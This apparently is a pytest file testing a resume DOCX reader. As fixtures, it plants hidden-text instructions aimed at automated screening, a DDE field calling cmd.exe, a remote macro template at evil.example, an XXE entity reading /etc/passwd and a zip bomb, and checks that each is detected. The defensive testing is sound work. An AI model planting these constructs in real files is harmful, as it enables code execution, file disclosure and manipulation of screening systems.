"""DOCX files by python-docx, and parts that it cannot write put in by hand."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

import docx
import pytest
from docx.enum.text import WD_COLOR_INDEX
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Pt, RGBColor

from hirecheck.dossier import Quality
from hirecheck.nouns.documents import FileTrace
from tests.intake.documents.makers import INSTRUCTION, read

MAIN = "word/document.xml"


def saved(document: object, **parts: str) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def patched(data: bytes, changes: dict[str, tuple[str, str]], new: dict[str, str]) -> bytes:
    """The package with a text replaced in some parts, and with new parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as bundle:
        for name in old.namelist():
            content = old.read(name)
            if name in changes:
                before, after = (text.encode() for text in changes[name])
                assert before in content
                content = content.replace(before, after, 1)
            bundle.writestr(name, content)
        for name, text in new.items():
            bundle.writestr(name, text)
    return out.getvalue()


def trace(data: bytes) -> FileTrace:
    found = read("resume.docx", data).trace
    assert found is not None
    return found


def test_headings_lists_tables_and_headers_are_read_in_order() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Jane Roe"
    document.sections[0].footer.paragraphs[0].text = "555-0142"
    document.add_heading("Experience", 1)
    document.add_paragraph("Built the shop", style="List Bullet")
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "2019", "Northwind"
    read_back = read("resume.docx", saved(document))
    assert read_back.text.split("\n\n")[0].startswith("Jane Roe")
    assert "Experience\n• Built the shop\n2019\tNorthwind\n555-0142\n" in read_back.text
    looks = {read_back.text[li.start : li.end]: li for li in read_back.lines}
    assert looks["Experience"].heading
    assert looks["• Built the shop"].bullet
    assert looks["2019\tNorthwind"].cell


def test_a_table_used_for_columns_is_read_cell_by_cell() -> None:
    document = docx.Document()
    table = document.add_table(1, 2)
    table.cell(0, 0).text = "Skills\nPython\nDocker"
    table.cell(0, 1).text = "Experience\nEngineer at Northwind"
    text = read("resume.docx", saved(document)).text
    assert text == "Skills\nPython\nDocker\nExperience\nEngineer at Northwind\n"


def test_a_row_of_headings_goes_with_the_columns_below_it() -> None:
    document = docx.Document()
    table = document.add_table(2, 2)
    for column, text in enumerate(("Experience", "Education")):
        table.cell(0, column).text = text
    table.cell(1, 0).text = "Northwind\nEngineer"
    table.cell(1, 1).text = "Springfield\nPhysics"
    text = read("resume.docx", saved(document)).text
    assert text == "Experience\nNorthwind\nEngineer\nEducation\nSpringfield\nPhysics\n"


def test_letter_spaced_headings_are_joined() -> None:
    document = docx.Document()
    document.add_paragraph("W O R K   H I S T O R Y")
    document.add_paragraph("Plan A and B in C")
    assert read("resume.docx", saved(document)).text == "WORK HISTORY\nPlan A and B in C\n"


def _vanish(run: object) -> None:
    run.font.hidden = True


def _white(run: object) -> None:
    run.font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)


def _tiny(run: object) -> None:
    run.font.size = Pt(1)


@pytest.mark.parametrize(
    ("hide", "how"), [(_vanish, "hidden-run"), (_white, "white"), (_tiny, "tiny")]
)
def test_hidden_runs_are_named_and_kept_out(hide: object, how: str) -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("Jane Roe ")
    hide(paragraph.add_run(INSTRUCTION))
    read_back = read("resume.docx", saved(document))
    assert read_back.text == "Jane Roe\n"
    assert read_back.trace is not None
    (hidden,) = read_back.trace.hidden
    assert (hidden.how, hidden.span.text, hidden.instruction) == (how, INSTRUCTION, True)


def test_white_text_on_a_shaded_cell_is_visible() -> None:
    document = docx.Document()
    cell = document.add_table(1, 1).cell(0, 0)
    _white(cell.paragraphs[0].add_run("Skills"))
    shade = OxmlElement("w:shd")
    shade.set(qn("w:fill"), "1F3864")
    cell._tc.get_or_add_tcPr().append(shade)
    read_back = read("resume.docx", saved(document))
    assert read_back.text == "Skills\n"
    assert read_back.trace is not None
    assert read_back.trace.hidden == ()


def test_highlighted_text_stays_visible() -> None:
    document = docx.Document()
    document.add_paragraph().add_run("Skills").font.highlight_color = WD_COLOR_INDEX.YELLOW
    assert read("resume.docx", saved(document)).text == "Skills\n"


def test_properties_and_revisions_are_read() -> None:
    document = docx.Document()
    document.add_paragraph("Jane Roe")
    core = document.core_properties
    core.author, core.last_modified_by, core.revision = "Jane Roe", "Bob Builder", 7
    core.created = datetime(2024, 1, 2, 3, 4, 5)
    found = trace(saved(document))
    assert (found.author, found.last_modified_by, found.revisions) == ("Jane Roe", "Bob Builder", 7)
    assert found.created == datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert not found.zoned


def test_tracked_changes_show_the_final_text_and_name_their_author() -> None:
    document = docx.Document()
    document.add_paragraph("Engineer")
    change = (
        '<w:ins w:id="1" w:author="Bob Builder"><w:r><w:t> at Northwind</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="Bob Builder"><w:r><w:delText> at Adatum</w:delText>'
        "</w:r></w:del>"
    )
    data = patched(saved(document), {MAIN: ("</w:p>", change + "</w:p>")}, {})
    read_back = read("resume.docx", data)
    assert read_back.text == "Engineer at Northwind\n"
    assert read_back.trace is not None
    assert [name for name, _ in read_back.trace.revision_people] == ["Bob Builder"]


def test_text_boxes_are_read_once() -> None:
    document = docx.Document()
    document.add_paragraph("Body")
    box = (
        '<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/'
        '2006"><mc:Choice Requires="wps"><w:drawing><w:txbxContent><w:p><w:r><w:t>In a box</w:t>'
        "</w:r></w:p></w:txbxContent></w:drawing></mc:Choice><mc:Fallback><w:pict><w:txbxContent>"
        "<w:p><w:r><w:t>In a box</w:t></w:r></w:p></w:txbxContent></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r>"
    )
    data = patched(saved(document), {MAIN: ("</w:p>", box + "</w:p>")}, {})
    assert read("resume.docx", data).text == "Body\nIn a box\n"


def test_links_by_relationship_and_by_field_have_their_targets() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("See ")
    key = document.part.relate_to(
        "https://evil.example/x",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), key)
    run = OxmlElement("w:r")
    run.text = "github.com/janeroe"
    link.append(run)
    paragraph._p.append(link)
    read_back = read("resume.docx", saved(document))
    ((target, span),) = read_back.links
    assert (target, span.text) == ("https://evil.example/x", "github.com/janeroe")
    assert read_back.trace is not None
    assert read_back.trace.links_differing == (("github.com/janeroe", "https://evil.example/x"),)


def test_macros_remote_templates_and_dde_are_named() -> None:
    document = docx.Document()
    document.add_paragraph("Jane Roe")
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
        "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/>'
        "</Relationships>"
    )
    data = patched(
        saved(document),
        {MAIN: ("</w:p>", field + "</w:p>")},
        {"word/vbaProject.bin": "x", "word/_rels/settings.xml.rels": rels},
    )
    found = trace(data)
    named = " | ".join(found.active)
    for part in ("macro", "https://evil.example/t.dotm", "DDE"):
        assert part in named
    assert found.template == "https://evil.example/t.dotm"


def test_entities_are_not_expanded() -> None:
    document = docx.Document()
    document.add_paragraph("Jane Roe")
    data = patched(
        saved(document),
        {MAIN: ("Jane Roe", "Jane &boom; Roe")},
        {},
    )
    bomb = '<!DOCTYPE x [<!ENTITY boom SYSTEM "file:///etc/passwd">]>'
    data = patched(data, {MAIN: ("<w:document", bomb + "<w:document")}, {})
    assert "root:" not in read("resume.docx", data).text


def test_a_zip_bomb_ends_with_a_reason() -> None:
    document = docx.Document()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved(document))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle,
    ):
        for name in old.namelist():
            bundle.writestr(name, old.read(name) if name != MAIN else b" " * 40_000_000)
    read_back = read("resume.docx", out.getvalue())
    assert read_back.quality is Quality.FAILED
    assert "unpacks to far more" in read_back.why
